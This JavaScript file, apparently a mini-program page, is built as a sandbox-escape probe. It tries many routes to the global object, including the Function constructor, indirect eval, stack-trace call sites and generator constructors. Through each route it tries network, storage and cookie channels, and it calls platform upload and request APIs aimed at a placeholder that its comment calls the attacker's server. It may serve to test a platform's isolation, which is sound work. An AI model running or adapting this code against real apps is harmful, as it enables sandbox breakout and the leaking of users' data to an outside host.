// Every way out of the worker that its author could think of. COLLECTOR is replaced by the address of the attacker's server.
const collector = 'COLLECTOR'
const found = {}

// Ways to a global object, or to a function that makes code from text.
const ways = {
  'this of a plain function': () => (function () { return this })(),
  'this of a called module function': () => (0, function () { return this }).call(undefined),
  'Function': () => Function('return this')(),
  'Function with arguments': () => Function('a', 'return this')(),
  'new Function': () => new Function('return self')(),
  'indirect eval': () => (0, eval)('this'),
  'eval': () => eval('this'),
  'constructor.constructor': () => [].constructor.constructor('return this')(),
  'constructor of an API': () => jd.request.constructor('return this')(),
  'constructor of require': () => require.constructor('return this')(),
  'a generator': () => (function* () {}).constructor('return this')().next().value,
  'an async function': () => (async function () {}).constructor('return this')(),
  'an async generator': () => (async function* () {}).constructor('yield this')(),
  'call sites': () => {
    Error.prepareStackTrace = (_, sites) => sites
    const sites = new Error('x').stack
    Error.prepareStackTrace = undefined
    return sites.map((s) => s.getThis && s.getThis()).find(Boolean)
  },
  'a function of a call site': () => {
    Error.prepareStackTrace = (_, sites) => sites
    const sites = new Error('x').stack
    Error.prepareStackTrace = undefined
    return sites.map((s) => s.getFunction && s.getFunction()).find(Boolean).constructor('return this')()
  },
  'caller': () => (function f() { return f.caller.constructor('return this')() })(),
  'a sort': () => { let g; [2, 1].sort(function () { g = this; return 0 }); return g },
  'a replace': () => { let g; 'x'.replace(/x/, function () { g = this; return '' }); return g },
  'Reflect': () => Reflect.apply(function () { return this }, undefined, []),
  'globalThis': () => globalThis,
  'self': () => self,
  'window': () => window,
  'global': () => global,
  'getApp': () => getApp().constructor.constructor('return this')(),
}

// What is tried with a global object; each gets an address of its own, so that a hit tells who made it.
const doors = {
  fetch: (f, g, url) => f.call(g, url, { mode: 'no-cors' }),
  XMLHttpRequest: (X, g, url) => new Promise((done, fail) => { const x = new X(); x.onload = done; x.onerror = () => fail(new Error('error')); x.open('GET', url); x.send() }),
  WebSocket: (W, g, url) => new Promise((done, fail) => { const w = new W(url.replace('http', 'ws')); w.onopen = done; w.onerror = () => fail(new Error('error')) }),
  EventSource: (E, g, url) => new Promise((done, fail) => { const e = new E(url); e.onopen = done; e.onerror = () => fail(new Error('error')) }),
  WebTransport: (W, g, url) => new W(url.replace('http:', 'https:')).ready,
  WebSocketStream: (W, g, url) => new W(url.replace('http', 'ws')).opened,
  RTCPeerConnection: (R, g, url) => new R({ iceServers: [{ urls: 'stun:' + url.slice(7) }] }).createOffer(),
  importScripts: (f, g, url) => f.call(g, url),
  Worker: (W, g, url) => new Promise((done, fail) => { const w = new W(url); w.onmessage = done; w.onerror = () => fail(new Error('error')) }),
  SharedWorker: (W, g, url) => new Promise((done, fail) => { const w = new W(url); w.port.onmessage = done; w.onerror = () => fail(new Error('error')) }),
  FontFace: (F, g, url) => new F('x', 'url(' + url + ')').load(),
  navigator: (n, g, url) => n.sendBeacon(url, 'x') || Promise.reject(new Error('not sent')),
  indexedDB: (d, g) => new Promise((done, fail) => { const r = d.open('minimart'); r.onsuccess = done; r.onerror = () => fail(r.error) }),
  caches: (c, g, url) => c.open('x').then((c) => c.add(url)),
  BroadcastChannel: (B) => new B('minimart').postMessage('x'),
  localStorage: (s) => s.getItem('x'),
  sessionStorage: (s) => s.getItem('x'),
  document: (d) => d.cookie,
  cookieStore: (c) => c.getAll(),
  parent: (p) => p.postMessage('x', '*'),
  eval: (f, g) => f.call(g, '1'),
  Function: (F, g) => new F('return 7')(),
  setTimeout: (f, g) => { const t = f.call(g, 'leaked = 1', 0); if (t === undefined) throw new Error('nothing'); throw new Error('a timer, of no effect: ' + typeof leaked) },
  $D: (f, g) => { f.call(g, 'lib/other.js', () => {}); throw new Error('its own modules only') },
  $U: (f, g) => { f.call(g, 'pages/other/other', { kind: 'page' }); throw new Error('its own units only') },
}

function look(g, name) {
  // Own properties may be covered; the prototypes may still have them.
  const values = []
  for (let o = g; o; o = Object.getPrototypeOf(o)) {
    const d = Object.getOwnPropertyDescriptor(o, name)
    if (d) { try { values.push(d.get ? d.get.call(g) : d.value) } catch (e) { /* the next */ } }
  }
  return values.filter((v) => v !== undefined && v !== null)
}

const tell = (name, result) => { found[name] = result }
const why = (e) => 'refused: ' + String((e && e.message) || e).slice(0, 60)
const waiting = []

let last = 0
for (const way of Object.keys(ways)) {
  let g
  try {
    g = ways[way]()
  } catch (e) {
    tell(way, why(e))
    continue
  }
  if (g === undefined || g === null || typeof g.then === 'function' || typeof g.next === 'function') {
    tell(way, 'nothing')
    continue
  }
  tell(way, 'an object')
  for (const door of Object.keys(doors)) {
    const name = way + ' → ' + door
    const values = look(g, door)
    if (values.length === 0) tell(name, 'absent')
    for (const value of values) {
      const url = collector + '/' + encodeURIComponent(name) + '/' + (++last)
      tell(name, 'waiting')
      try {
        const p = Promise.resolve(doors[door](value, g, url)).then(() => tell(name, 'PASSED'), (e) => tell(name, why(e)))
        waiting.push(p)
      } catch (e) {
        tell(name, why(e))
      }
    }
  }
}

waiting.push(import(collector + '/import').then(() => tell('import()', 'PASSED'), (e) => tell('import()', why(e))))
tell('a string for setTimeout', (() => { try { setTimeout('leaked = 2', 0) } catch (e) { return why(e) } return 'PASSED' })())

Page({
  data: { report: '' },
  onLoad() {
    for (const [name, ask] of [
      ['request', () => jd.request({ url: collector + '/request' })],
      ['uploadFile', () => jd.uploadFile({ url: collector + '/upload', filePath: 'data:text/plain,x', name: 'x' })],
      ['downloadFile', () => jd.downloadFile({ url: collector + '/download' })],
      ['connectSocket', () => new Promise((done, fail) => jd.connectSocket({ url: collector.replace('http', 'ws') + '/socket', success: done, fail }))],
      ['previewImage', () => jd.previewImage({ urls: [collector + '/preview'] })],
      ['a toast with a picture', () => jd.showToast({ title: 'x', image: collector + '/toast' }).then(() => Promise.reject(new Error('without the picture')))],
      ['getImageInfo', () => jd.getImageInfo({ src: collector + '/info' })],
    ]) {
      tell(name, 'waiting')
      try {
        waiting.push(Promise.resolve(ask()).then(() => tell(name, 'PASSED'), (e) => tell(name, 'refused: ' + String(e.errMsg || e.message).slice(0, 80))))
      } catch (e) {
        tell(name, why(e))
      }
    }
    const late = new Promise((done) => setTimeout(done, 4000))
    Promise.race([Promise.all(waiting), late]).then(() => this.setData({ report: JSON.stringify(found) }))
  },
})
